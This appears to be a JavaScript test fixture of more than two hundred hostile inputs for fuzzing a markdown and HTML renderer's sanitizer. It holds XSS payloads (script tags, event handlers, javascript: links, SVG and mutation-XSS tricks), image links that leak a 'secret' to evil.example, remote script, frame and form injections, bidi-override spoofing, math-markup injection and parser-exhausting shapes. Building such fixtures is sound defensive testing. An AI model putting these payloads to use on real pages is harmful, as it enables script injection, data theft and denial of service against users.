// Hostile responses: more than two hundred texts that try to run scripts, fetch, cover the page or exhaust it.
// Scripts set `pwned`; addresses are at evil.example.

/** Each of these is embedded in each of the contexts below. */
const PAYLOADS = [
  "<script>window.pwned=1</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=window.pwned=1>",
  "<img src=https://evil.example/steal?secret>",
  "![x](https://evil.example/steal?secret)",
  "![x](/x.png)",
  "[click](javascript:window.pwned=1)",
  "[click](JAVASCRIPT&colon;window.pwned=1)",
  "[click](data:text/html,<script>window.pwned=1</script>)",
  "<a href='javascript:window.pwned=1'>x</a>",
  "<svg onload=window.pwned=1>",
  "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=window.pwned=1 /></svg>#x'/>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<object data=https://evil.example/x></object>",
  "<embed src=https://evil.example/x>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=prefetch href=https://evil.example/x>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<form action=https://evil.example><input name=a><button>go</button></form>",
  "<video src=https://evil.example/x autoplay></video>",
  "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
  "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>covered</div>",
  "<input autofocus onfocus=window.pwned=1>",
  "<details open ontoggle=window.pwned=1>",
  "<template><script>window.pwned=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
];

const CONTEXTS = [
  (it) => it,
  (it) => `- a\n- ${it}\n- b`,
  (it) => `| a | b |\n|---|---|\n| ${it} | c |`,
  (it) => `> # ${it}\n>\n> and on`,
  (it) => `**bold ${it}** and *it* and ~~gone~~`,
  (it) => `\`\`\`html\n${it}\n\`\`\`\nafter`,
];

const many = (count, make) => Array.from({ length: count }, (_, at) => make(at)).join("");
const chaos = (seed, length) => {
  const characters = "<>[](){}!|`*_~#-+=\"'\\/:;&%$ \n\tax1";
  let state = seed;
  return many(length, () => {
    state = (state * 1103515245 + 12345) % 2147483648;
    return characters[Math.floor((state / 2147483648) * characters.length)];
  });
};

/** Inputs that are expensive to parse or lay out, or misleading to read. */
const SHAPES = [
  "```js\nnever closed\n",
  "````\n```\nstill\n",
  "~~~~~\nalso never closed",
  "`one tick that stays open",
  `| a |\n|---|\n${many(5000, (at) => `| row ${at} |\n`)}`,
  `${many(300, () => "| a ")}|\n${many(300, () => "|---")}|\n${many(30, () => `${many(300, () => "| b ")}|\n`)}`,
  many(2000, () => "> "),
  many(1000, () => "- "),
  many(400, (at) => `${" ".repeat(at * 2)}- deep\n`),
  many(20_000, () => "["),
  many(20_000, () => "*a "),
  many(20_000, () => "_"),
  many(5000, () => "[a]("),
  many(3000, () => "![[a]("),
  many(5000, () => "<a"),
  many(20_000, () => "`"),
  many(5000, () => "**a*"),
  many(3000, (at) => `[l${at}]: https://evil.example/${at}\n`),
  many(100_000, () => "x"),
  many(300_000, () => "y"),
  many(30_000, () => "word "),
  many(5000, () => "\n\n"),
  many(3000, (at) => `# heading ${at}\n`),
  many(1000, (at) => `https://evil.example/${at} `),
  many(1000, () => "a\u0300\u0301\u0302\u0303".repeat(10)),
  `start\u202Egnp.exe\u202C end`,
  `\u2066${many(200, () => "\u202E\u202Dmixed")}`,
  "```rust\nif is_admin /* \u202E } \u2066 begin */ {\n```",
  "\u200F\u05E9\u05DC\u05D5\u05DD \u0627\u0644\u0633\u0644\u0627\u0645 and back",
  "\u0000\u0001\u0002\uFFFF\uD800 lone and nought",
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.pwned=1&#62;",
  "[x]: javascript:window.pwned=1\n\n[x]",
  "[x](<javascript:window.pwned=1>)",
  '<https://evil.example/a"onmouseover="window.pwned=1>',
  '[x](https://evil.example "title\\" onmouseover=window.pwned=1 x=\\"")',
  "[\u202Emoc.elpmaxe.live](https://evil.example)",
  "</div></article></main><h1>outside</h1>",
  "\r\n\r\nline\rline\r\n- a\r\n- b",
  "<!DOCTYPE html><html><body onload=window.pwned=1>",
  "<![CDATA[<script>window.pwned=1</script>]]>",
  "$<img src=x onerror=window.pwned=1>$ and $$\\text{<script>window.pwned=1</script>}$$",
  "\\(\\href{javascript:window.pwned=1}{x}\\) and \\[\\unicode{x}\\url{https://evil.example}\\]",
  "$\\style{position:fixed}{x} \\class{page}{y} \\html{<b>} \\includegraphics{https://evil.example/x}$",
  "$$\\begin{matrix}\\text{</mtext></math><img src=x onerror=window.pwned=1>}\\end{matrix}$$",
  `$${many(2000, () => "{")}x${many(2000, () => "}")}$`,
  `$$${many(400, () => "\\frac{1}{")}x${many(400, () => "}")}$$`,
  many(5000, () => "$a"),
  many(5000, () => "\\("),
  many(5000, () => "\\[\n"),
  many(3000, () => "$$\n"),
  `$x$ ${many(20_000, () => "*a ")}$y$`,
  many(500, () => "$\\sqrt{x^{2}}$ "),
  `$$${many(600, () => "x+")}1$$`,
  `$$\\begin{matrix}${many(900, () => "a&")}b\\end{matrix}$$`,
  `$${many(500, () => "\\hat")}x$`,
  "<?php system('x') ?>",
  many(30, (at) => chaos(at, 300)),
];

export const OUTPUTS = [
  ...CONTEXTS.flatMap((context) => PAYLOADS.map(context)),
  ...SHAPES,
  ...Array.from({ length: 20 }, (_, at) => chaos(at + 100, 2000)),
];
